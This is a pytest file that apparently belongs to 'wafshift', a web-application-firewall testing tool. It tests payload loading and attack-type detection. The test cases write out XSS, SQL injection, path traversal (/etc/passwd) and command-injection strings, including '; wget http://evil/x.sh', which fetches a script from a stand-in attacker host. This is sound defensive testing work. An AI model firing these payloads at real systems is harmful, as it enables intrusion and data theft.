"""Tests for payload loading and attack type detection."""

from __future__ import annotations

import pytest

from wafshift.errors import ConfigurationError
from wafshift.models.types import AttackType
from wafshift.utils.payloads import (
    PAYLOADS_DIR,
    available_payload_sets,
    detect_attack_type,
    load_base_payloads,
    load_payloads_from_file,
    stream_payloads,
)


class TestDetectAttackType:
    @pytest.mark.parametrize("payload, expected", [
        ("<script>alert(1)</script>", AttackType.XSS),
        ("<img src=x onerror=alert(1)>", AttackType.XSS),
        ("javascript:alert(1)", AttackType.XSS),
        ("' OR 1=1 --", AttackType.SQLI),
        ("1 UNION SELECT password FROM users", AttackType.SQLI),
        ("../../etc/passwd", AttackType.PATH),
        ("..\\..\\boot.ini", AttackType.PATH),
        ("; wget http://evil/x.sh", AttackType.UNIX_CMDI),
        ("powershell -nop", AttackType.UNIX_CMDI),
        ("hello world", AttackType.GENERIC),
    ])
    def test_detection(self, payload, expected):
        assert detect_attack_type(payload) == expected

    def test_xss_checked_before_sqli(self):
        assert detect_attack_type("<script>select()</script>") == AttackType.XSS

    def test_case_insensitive(self):
        assert detect_attack_type("<SCRIPT>") == AttackType.XSS


class TestFiles:
    def test_load_skips_comments_and_blanks(self, tmp_path):
        path = tmp_path / "p.txt"
        path.write_text("# comment\n\n  <b>  \n'--\n", encoding="utf-8")
        assert load_payloads_from_file(path) == ["<b>", "'--"]

    def test_missing_file(self, tmp_path):
        with pytest.raises(OSError):
            load_payloads_from_file(tmp_path / "nope.txt")

    async def test_stream(self, tmp_path):
        path = tmp_path / "p.txt"
        path.write_text("a\n#b\nc\n", encoding="utf-8")
        assert [p async for p in stream_payloads(path)] == ["a", "c"]


class TestBundledPayloads:
    def test_bundled_sets(self):
        names = available_payload_sets()
        for name in ("xss", "sqli", "unixcmdi", "wincmdi", "path"):
            assert name in names

    def test_single_type(self):
        loaded = load_base_payloads("xss")
        assert list(loaded) == ["xss"]
        assert loaded["xss"]

    def test_os_command_injection_loads_both(self):
        assert list(load_base_payloads(AttackType.OS_CMDI)) == ["unixcmdi", "wincmdi"]

    def test_all_loads_everything(self):
        assert sorted(load_base_payloads("all")) == available_payload_sets()

    def test_custom_dir(self, tmp_path):
        (tmp_path / "sqli.txt").write_text("' OR 1=1\n", encoding="utf-8")
        assert load_base_payloads("sqli", tmp_path) == {"sqli": ["' OR 1=1"]}

    def test_missing_lists_raise(self, tmp_path):
        with pytest.raises(ConfigurationError):
            load_base_payloads("xss", tmp_path)

    def test_empty_dir_for_all(self, tmp_path):
        with pytest.raises(ConfigurationError):
            load_base_payloads("all", tmp_path)

    def test_unknown_type(self):
        with pytest.raises(ConfigurationError):
            load_base_payloads("rce")

    def test_dir_exists(self):
        assert PAYLOADS_DIR.is_dir()
